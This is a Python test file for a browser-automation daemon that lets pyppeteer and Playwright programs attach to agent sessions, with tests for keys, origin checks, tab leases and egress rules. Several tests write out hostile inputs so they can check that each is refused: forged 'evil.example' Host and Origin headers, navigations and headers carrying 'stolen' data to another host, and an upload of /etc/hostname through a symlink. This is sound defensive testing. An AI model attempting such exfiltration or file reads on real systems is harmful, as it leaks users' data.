"""Programs attached to a session by a person: what they can do, what limits them, how they end."""

from __future__ import annotations

import asyncio
import http.client
import json
import subprocess
import sys
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from aiohttp import WSServerHandshakeError

from support import playwright_python
from support.cdp_program import CdpError, CdpProgram, address, ask_address, run
from support.daemon import Daemon
from support.recorded import EVERYTHING, WORD, order, recorded, shop, site_messages
from support.site import Site
from support.waiting import wait_until

PAGE = """data:text/html,<title>shop</title><input type=file id=f>
<button id=b onclick="document.title = 'clicked'">Buy</button>"""


@pytest.fixture
def attachable(share_daemon: Callable[..., Daemon]) -> Daemon:
    return share_daemon("--attach")


def lease(daemon: Daemon, **asked: object) -> dict[str, Any]:
    """Take a tab or give it back, as `oc hold` does."""
    result = daemon.request(
        "POST", "/v1/leases", json.dumps(asked).encode(), {"Content-Type": "application/json"}
    ).result
    found: dict[str, Any] = result.get("lease", {})
    return found


def no_programs(daemon: Daemon) -> None:
    """Wait until no program is attached any more."""
    wait_until(lambda: daemon.status()["attach"]["programs"] == 0, what="the end of the programs")


def entries(daemon: Daemon, session: str, event: str) -> list[dict[str, Any]]:
    found = daemon.do("oc_journal", action="recent", count=200)
    return [one for one in found if one["event"] == event and one["session"] == session]


# --- clients ---------------------------------------------------------------------------------


PYPPETEER = """
import asyncio, sys
import pyppeteer

async def main():
    browser = await pyppeteer.connect(browserWSEndpoint=sys.argv[1])
    print([page.url for page in await browser.pages()])
    page = await browser.newPage()
    await page.goto(sys.argv[2])
    await page.click("#b")
    print(await page.title(), await page.evaluate("6 * 7"), len(await page.screenshot()) > 100)
    await page.close()
    await browser.close()

asyncio.run(main())
"""


def start(python: str, program: str, folder: Path, *args: str) -> subprocess.Popen[str]:
    """Start a program, given its text."""
    path = folder / "program.py"
    path.write_text(program, encoding="utf-8")
    return subprocess.Popen(
        [python, str(path), *args], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
    )


def test_pyppeteer_works_beside_an_agent(attachable: Daemon, site: Site, tmp_path: Path) -> None:
    """It sees only its session's tab; an agent works in another session, and in its own tab."""
    daemon, url = attachable, site.url("article.html")
    first = daemon.new_tab(url, "p1")
    program = start(sys.executable, PYPPETEER, tmp_path, address(daemon, "p1"), PAGE)
    daemon.do("navigate", "p2", url=site.url("article.html?other"))
    assert daemon.do("read_page", "p1", tab_id=first)["content"]
    out, err = program.communicate(timeout=300)
    assert out.splitlines() == [str([url]), "clicked 42 True"], err
    no_programs(daemon)
    assert [tab["tab_id"] for tab in daemon.do("tabs_context", "p1")["tabs"]] == [first]
    assert daemon.do("javascript_tool", "p1", code="1 + 1")["content"] == "2"


PLAYWRIGHT = """
import sys
from playwright.sync_api import sync_playwright

with sync_playwright() as playwright:
    browser = playwright.chromium.connect_over_cdp(sys.argv[1])
    context = browser.contexts[0]
    print([page.url for page in context.pages])
    page = context.new_page()
    page.goto(sys.argv[2])
    page.click("#b")
    print(page.title(), page.evaluate("6 * 7"), len(page.screenshot()) > 100)
    with page.expect_popup() as popup:
        page.evaluate("void window.open('about:blank')")
    popup.value.close()
    apart = browser.new_context()
    print(apart.new_page().evaluate("1"), apart.cookies())
    apart.close()
    page.close()
    browser.close()
"""


@pytest.mark.timeout(600)  # it may have to be installed first
def test_playwright_connects(attachable: Daemon, site: Site, tmp_path: Path) -> None:
    """By the address for discovery: pages, popups and a separate context."""
    url = site.url("article.html?playwright")
    attachable.do("navigate", "w1", url=url)
    reached = ask_address(attachable, "w1").result["http_url"]
    program = start(playwright_python.installed(), PLAYWRIGHT, tmp_path, reached, PAGE)
    out, err = program.communicate(timeout=300)
    assert out.splitlines() == [str([url]), "clicked 42 True", "1 []"], err
    no_programs(attachable)
    assert attachable.do("worker", "w1", action="list")["workers"] == []


# --- the way in ------------------------------------------------------------------------------


def get(url: str, **headers: str) -> tuple[int, Any]:
    """Return the status and the body that an address answers with."""
    where = urlsplit(url)
    connection = http.client.HTTPConnection("127.0.0.1", where.port or 0, timeout=60)
    try:
        connection.request("GET", where.path, headers=headers)
        answer = connection.getresponse()
        return answer.status, json.loads(answer.read())
    finally:
        connection.close()


def test_a_key_lets_one_program_in(attachable: Daemon, site: Site) -> None:
    """Discovery needs the key and does not use it up; a second program is refused."""
    attachable.do("navigate", "k1", url=site.url("article.html"))
    reached = ask_address(attachable, "k1").result
    base = reached["http_url"]
    status, about = get(f"{base}/json/version/")
    assert (status, about["webSocketDebuggerUrl"]) == (200, reached["url"])
    (page,) = get(f"{base}/json/list")[1]
    assert (page["type"], page["url"]) == ("page", site.url("article.html"))

    async def connect_twice() -> None:
        async with CdpProgram(reached["url"]) as program:
            assert len(await program.targets()) == 1
            assert get(f"{base}/json/version")[0] == 401
            assert get(base, Connection="Upgrade", Upgrade="websocket")[0] in (400, 401)

    run(connect_twice())
    assert get(f"{base}/json/list")[0] == 401
    assert get(f"{base[:-43]}{'x' * 43}/json/version")[0] == 401


def test_foreign_hosts_and_origins_are_refused(attachable: Daemon) -> None:
    """Another Host, and pages of any other origin, with whatever key."""
    base = ask_address(attachable).result["http_url"]
    for wrong in (
        {"Host": "evil.example"}, {"Origin": "http://evil.example"}, {"Origin": "null"},
    ):  # fmt: skip
        status, body = get(f"{base}/json/version", **wrong)
        assert (status, body["error"]["code"]) == (403, "forbidden")
    assert get(f"{base}/json/version")[0] == 200


def test_attaching_is_off_by_default(daemon: Daemon) -> None:
    """The error says how it is switched on."""
    reply = ask_address(daemon)
    assert reply.code == "disabled"
    assert "attach = true" in reply.error["hint"]


def test_attaching_is_switched_on_and_off_while_the_browser_runs(
    make_daemon: Callable[..., Daemon], site: Site
) -> None:
    """Without a restart; switching it off ends programs and unused addresses."""
    daemon = make_daemon()
    daemon.do("navigate", url=site.url("article.html"))
    daemon.home.write_config("attach = true\n")
    wait_until(lambda: ask_address(daemon).status == 200, 60, "the setting to be read")
    used, unused = (ask_address(daemon).result for _ in range(2))

    async def work() -> None:
        async with CdpProgram(used["url"]) as program:
            assert [one["url"] for one in await program.targets()] == [site.url("article.html")]
            daemon.home.write_config("attach = false\n")
            await program.wait_closed()

    run(work())
    assert get(f"{unused['http_url']}/json/version")[0] == 401
    assert ask_address(daemon).code == "disabled"
    assert len(daemon.do("tabs_context")["tabs"]) == 1


def test_oc_attach_prints_an_address(attachable: Daemon) -> None:
    """Only the address on stdout, what it is for on stderr."""
    done = attachable.oc("attach", "--session", "c1", "--ttl", "2m").ok()
    assert done.out.startswith("ws://127.0.0.1:")
    assert "session c1" in done.err

    async def look() -> list[Any]:
        async with CdpProgram(done.out.strip()) as program:
            return await program.targets()

    assert run(look()) == []
    assert attachable.oc("attach", "--ttl", "soon").code != 0


# --- its end ---------------------------------------------------------------------------------


def test_connection_ends_with_its_time_limit_and_its_session(
    attachable: Daemon, site: Site
) -> None:
    """The connection is closed, and the journal says why."""
    attachable.do("navigate", "e1", url=site.url("article.html"))

    async def stay() -> None:
        for seconds in (1, 10, 60):  # until it has connected before its time was over
            with suppress(WSServerHandshakeError):
                async with CdpProgram(address(attachable, "e1", ttl_s=seconds)) as program:
                    await program.wait_closed()
                    return

    run(stay())

    async def close_browser() -> None:
        async with CdpProgram(address(attachable, "e1")) as program:
            await program.call("Browser.close")
            await program.wait_closed()

    run(close_browser())
    no_programs(attachable)
    reasons = [one["reason"] for one in entries(attachable, "e1", "program_detached")]
    assert reasons == ["key", "program"]
    assert len(attachable.do("tabs_context", "e1")["tabs"]) == 1


def test_settings_of_a_program_end_with_its_connection(attachable: Daemon, site: Site) -> None:
    """Interception, disabled scripts and emulation are its own; the agent's session continues."""
    daemon = attachable
    daemon.do("navigate", "s1", url=site.url("article.html"))
    daemon.do("emulate_device", "s1", width=500, height=400)

    async def meddle() -> None:
        async with CdpProgram(address(daemon, "s1")) as program:
            tab = await program.page()
            for method, params in (
                ("Page.enable", {}), ("Runtime.enable", {}), ("Debugger.enable", {}),
                ("Fetch.enable", {"patterns": [{"urlPattern": "*"}]}),
                ("Emulation.setScriptExecutionDisabled", {"value": True}),
                ("Emulation.setDeviceMetricsOverride",
                 {"width": 900, "height": 800, "deviceScaleFactor": 1, "mobile": False}),
                ("Runtime.addBinding", {"name": "openchrome"}),
                ("Emulation.setFocusEmulationEnabled", {"enabled": True}),
            ):  # fmt: skip
                await program.call(method, tab, **params)
            await program.start("Runtime.disable", tab)
            size = {"expression": "innerWidth", "returnByValue": True}
            assert (await program.call("Runtime.evaluate", tab, **size))["result"]["value"] == 900
            # It goes while the agent's navigation is held up by its interception.
            waiting = daemon.start_call("navigate", "s1", url=site.url("article.html?next"))
            await program.message(lambda one: one.get("method") == "Fetch.requestPaused")
        await asyncio.to_thread(waiting.reply)

    run(meddle())
    no_programs(daemon)
    daemon.do("navigate", "s1", url=site.url("article.html?after"))
    assert daemon.do("javascript_tool", "s1", code="innerWidth")["content"] == "500"
    other = daemon.new_tab(site.url("article.html?in-front"), "s1")
    (back,) = [tab for tab in daemon.do("tabs_context", "s1")["tabs"] if tab["tab_id"] != other]
    focus = {"tab_id": back["tab_id"], "code": "document.hasFocus()"}
    assert daemon.do("javascript_tool", "s1", **focus)["content"] == "true"
    assert daemon.do("read_page", "s1")["content"]


# --- what holds it ---------------------------------------------------------------------------


def test_acting_calls_wait_while_a_person_holds_the_tab(attachable: Daemon) -> None:
    """The program's acting calls wait, in order, until the tab is given back; reading continues."""
    attachable.do("navigate", "h1", url=PAGE)

    async def work() -> None:
        async with CdpProgram(address(attachable, "h1")) as program:
            tab = await program.page()
            held = lease(attachable, action="acquire", session="h1", holder="Ada")
            script = {"expression": "document.title = 'waited'"}
            first = await program.start("Runtime.evaluate", tab, **script)
            second = await program.start("Runtime.evaluate", tab, expression="document.title")
            assert await program.call("DOM.getDocument", tab)
            assert attachable.do("tabs_context", "h1")["tabs"][0]["title"] == "shop"
            lease(attachable, action="release", key=held["key"])
            await program.answer(first)
            assert (await program.answer(second))["result"]["value"] == "waited"

    run(work())


def test_attached_program_obeys_the_egress_policy(
    share_daemon: Callable[..., Daemon], site: Site
) -> None:
    """After it has read a page, an address with data, a header or a file are refused."""
    config = '[policy]\nexfiltration = "deny"\n[[policy.action]]\n'
    config += 'origin = "barred.test"\nrule = "deny"\n'
    daemon = share_daemon("--attach", config=config)
    daemon.do("navigate", "x1", url=site.url("article.html"))

    async def work() -> list[str]:
        async with CdpProgram(address(daemon, "x1")) as program:
            tab = await program.page()
            await program.call("Runtime.evaluate", tab, expression="document.title")
            refused = []
            for method, session, params in (
                ("Page.navigate", tab, {"url": "http://other.test/?stolen"}),
                ("Target.createTarget", "", {"url": "http://other.test/?stolen"}),
                ("Network.setExtraHTTPHeaders", tab, {"headers": {"X": "stolen"}}),
                ("Network.setCookie", tab, {"name": "a", "value": "b", "domain": "other.test"}),
            ):  # fmt: skip
                with pytest.raises(CdpError) as caught:
                    await program.call(method, session, **params)
                refused.append(str(caught.value))
            await program.call("Page.navigate", tab, url=site.url("article.html?own"))
            for method, session in (("Page.navigate", tab), ("Target.createTarget", "")):
                with pytest.raises(CdpError, match="action_denied"):
                    await program.call(method, session, url="http://barred.test/")
            return refused

    assert all("exfiltration_denied" in one for one in run(work()))


def test_uploads_come_only_from_the_programs_folders(attachable: Daemon, tmp_path: Path) -> None:
    """Files of its folder can be uploaded, judged by where links lead; no others."""
    attachable.do("navigate", "f1", url=PAGE)
    own, outside = tmp_path / "own" / "a.txt", Path("/etc/hostname")
    own.parent.mkdir()
    own.write_text("mine", encoding="utf-8")
    (own.parent / "link").symlink_to(outside)

    async def work() -> None:
        async with CdpProgram(address(attachable, "f1", cwd=str(own.parent))) as program:
            tab = await program.page()
            root = (await program.call("DOM.getDocument", tab))["root"]["nodeId"]
            asked = {"nodeId": root, "selector": "#f"}
            node = (await program.call("DOM.querySelector", tab, **asked))["nodeId"]
            await program.call("DOM.setFileInputFiles", tab, nodeId=node, files=[str(own)])
            for path in (own.parent / "link", outside, Path("a.txt")):
                with pytest.raises(CdpError, match="path_"):
                    await program.call("DOM.setFileInputFiles", tab, nodeId=node, files=[str(path)])
            script = {"expression": "f.files[0].text()", "awaitPromise": True}
            value = (await program.call("Runtime.evaluate", tab, **script))["result"]["value"]
            assert value == "mine"

    run(work())


def test_the_journal_has_only_methods_and_tabs(attachable: Daemon) -> None:
    """No scripts, addresses or replies; refusals are recorded as such."""
    attachable.do("navigate", "j1", url=PAGE)

    async def work() -> None:
        async with CdpProgram(address(attachable, "j1")) as program:
            tab = await program.page()
            await program.call("Runtime.evaluate", tab, expression="'not-in-the-journal'")
            with pytest.raises(CdpError):
                await program.call("Tracing.start", tab)

    run(work())
    no_programs(attachable)
    found = entries(attachable, "j1", "program_call")
    assert [(one["method"], one.get("tab_id"), one.get("error")) for one in found[-2:]] == [
        ("Runtime.evaluate", "t1", None), ("Tracing.start", "t1", "forbidden"),
    ]  # fmt: skip
    assert "not-in-the-journal" not in json.dumps(found)


# --- oc run ----------------------------------------------------------------------------------

SCRIPT = """
import os, sys
print(sys.argv[1:], os.path.basename(sys.argv[0]), os.environ["OPENCHROME_ATTACH_URL"][:15])
sys.stderr.write("to stderr\\n")
sys.exit(3)
"""


def test_oc_run_passes_arguments_to_the_program(attachable: Daemon, tmp_path: Path) -> None:
    """Options after the file are the program's; its output and status are those of `oc run`."""
    program = tmp_path / "program.py"
    program.write_text(SCRIPT, encoding="utf-8")
    done = attachable.oc("run", "--session", "r1", str(program), "--session", "x", "-v", "--", "a")
    shown = "['--session', 'x', '-v', '--', 'a'] program.py ws://127.0.0.1:"
    assert (done.code, done.out, done.err) == (3, f"{shown}\n", "to stderr\n")
    missing = attachable.oc("run", str(tmp_path / "none.py"))
    assert (missing.code, "No such file" in missing.err) == (1, True)


@pytest.mark.timeout(600)  # Playwright may have to be installed first
@pytest.mark.parametrize("form", ["python_pyppeteer", "python_playwright"])
def test_an_exported_recording_runs_where_it_was_recorded(
    attachable: Daemon, site: Site, form: str
) -> None:
    """Unchanged, in the session's own tab, which stays open."""
    daemon = attachable
    with recorded(daemon, name="order") as recording_id:
        shop(daemon, site)
        order(daemon)
    site.forget()
    tabs = daemon.do("tabs_context")["tabs"]
    path = daemon.home.base / "tmp" / f"{form}.py"
    daemon.do("oc_recording_export", recording_id=recording_id, format=form, path=str(path))
    python = sys.executable if form == "python_pyppeteer" else playwright_python.installed()
    done = daemon.oc("run", "--python", python, str(path), SECRET_1=WORD, TIMEOUT="60").ok()
    assert done.out == ""
    wait_until(lambda: site_messages(site) == EVERYTHING, what="the page's messages")
    no_programs(daemon)
    assert [tab["tab_id"] for tab in daemon.do("tabs_context")["tabs"]] == [
        tab["tab_id"] for tab in tabs
    ]
